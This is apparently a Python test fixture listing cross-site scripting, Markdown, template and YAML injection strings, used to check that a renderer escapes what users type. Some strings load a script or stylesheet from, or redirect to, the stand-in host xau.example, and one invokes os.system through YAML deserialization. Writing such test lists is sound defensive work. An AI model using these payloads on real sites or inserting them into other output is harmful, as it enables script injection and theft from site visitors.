"""What somebody might type who means harm."""

from __future__ import annotations

from typing import Final

PAYLOADS: Final = (
    # elements
    "<script>ran()</script>",
    "</script><script>ran()</script>",
    "<ScRiPt src=//xau.example/x.js></sCrIpT>",
    "<img src=x onerror=ran()>",
    "<svg/onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<body onload=ran()>",
    "<details open ontoggle=ran()>",
    "<input autofocus onfocus=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'>",
    "<object data=javascript:ran()></object>",
    "<math href=javascript:ran()>x</math>",
    "<a href=javascript:ran()>bấm</a>",
    "<form action=//xau.example><button>gửi</button>",
    "<base href=//xau.example/>",
    "<link rel=stylesheet href=//xau.example/x.css>",
    "<style>*{display:none}</style>",
    "<b style=position:fixed;inset:0>che</b>",
    "<plaintext><noscript>",
    "<!-- <script>ran()</script> -->",
    '<h2 id="lam-ngay">giả</h2>',
    # leaving where they stand
    '"><script>ran()</script>',
    "'><img src=x onerror=ran()>",
    '" onmouseover="ran()',
    "' autofocus onfocus='ran()",
    "` onload=ran() `",
    '"><meta http-equiv=refresh content=0;url=//xau.example>',
    "</textarea><script>ran()</script>",
    "</title><script>ran()</script>",
    "</style><script>ran()</script>",
    "--><script>ran()</script><!--",
    "]]><script>ran()</script><![CDATA[",
    '"}</script><script>ran()</script>{"',
    '\\"},"url":"javascript:ran()",{\\"',
    "\\u003cscript>ran()</script>",
    # Markdown
    "[bấm](javascript:ran())",
    '[bấm](JaVaScRiPt:ran() "tên")',
    "![ảnh](https://xau.example/x.png)",
    "![x](x){: onerror=ran() }",
    "](javascript:ran()) [",
    "](x){ onclick=ran() } [",
    "<javascript:ran()>",
    "<https://xau.example> <a@xau.example>",
    "[bấm][xau] [xau]: javascript:ran()",
    '[xau]: https://xau.example "x"',
    "{: onclick=ran() style=color:red }",
    "{ onclick=ran() #lam-ngay .cb-bar }",
    "chữ { #lam-ngay onclick=ran() }",
    "**đậm** __đậm__ *nghiêng* `mã` ~~bỏ~~",
    "# đề mục ## khác ##",
    "- ý một * ý hai + ý ba",
    "1. một 2) hai",
    "> trích > trích",
    "```js ran() ``` ~~~",
    "| a | b | |---|---|",
    "[TOC] [^1] *[HTML]: x",
    '!!! note "chú ý"',
    "\\*thoát\\* \\<b\\> \\\\",
    "wzxhzdk:0 klzzwxh:0001 &#2;wzxhzdk:0&#3;",
    # entities
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;img src=x onerror=ran()&#62;",
    "&#x3c;svg onload=ran()&#x3e; &amp;lt; &nbsp;",
    "java&#115;cript&colon;ran() &NewLine;",
    # templates, YAML, front matter
    "{{7*7}} {{ config.site_url }}",
    "{% raw %}{% include 'x' %}{% endraw %}",
    "{#- chú thích -#} {{ page.content }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "!!python/object/apply:os.system [ran]",
    "&neo x: *neo <<: !ENV HOME",
    "--- template: main.html ---",
    "yes: no, key: [a, {b: c}] # hết",
    '%YAML 1.2 ... --- "title": "x"',
    # line ends of other systems: one line in the end
    "x\r\n\r\n<script>ran()</script>",
    "a\n---\ntemplate: main.html\n---\nb",
    "a\n\n## Đề mục { #lam-ngay }\n\nb",
    "Set-Cookie: a=b\r\nX: y\n\n    mã thụt vào",
    # Unicode that the reader lets through
    "＜script＞ran()＜/script＞",
    "<ſcript>ran()</ſcript>",
    "‹script› «ran» ﹤img﹥ ≮b≯",
    "＂ onload＝ran() ＇ ‘x’ “y”",
    "e\u0301\u0323\u0302 chữ ghép, 👨‍👩‍👧".replace("\u200d", ""),
    "javascript：ran() ⁄ ∕ ＆lt；",
)
"""What must show as typed; at most 60 characters, as long as the shortest limit of most fields."""

CONTROL: Final = (
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<svg/onload=ran()>",
    "chữ { #lam-ngay onclick=ran() }",
    "[bấm](javascript:ran())",
    "**đậm** __đậm__ *nghiêng* `mã` ~~bỏ~~",
)
"""Payloads that are known to work where nothing is escaped; none asks another host for anything."""

URL_START: Final = "https://nguon.example/"
URL_PAYLOADS: Final = (
    "https://nguon.example/(a)(:_onclick=ran)*b*_c_~d~",
    "https://nguon.example/?a=1&b=2#c)d~e$f",
    "https://nguon.example/%22%3E%3Cscript%3Eran%28%29",
    "https://nguon.example/%7B%7B7*7%7D%7D%_raw_%#x#",
    "https://nguon.example/!!;,=+@:ấn-phẩm",
)
"""Addresses that the schema lets through. Parentheses end a link in Markdown."""

MARKER = "window.ran = () => window.testRan(location.pathname + ' ' + new Error().stack);"
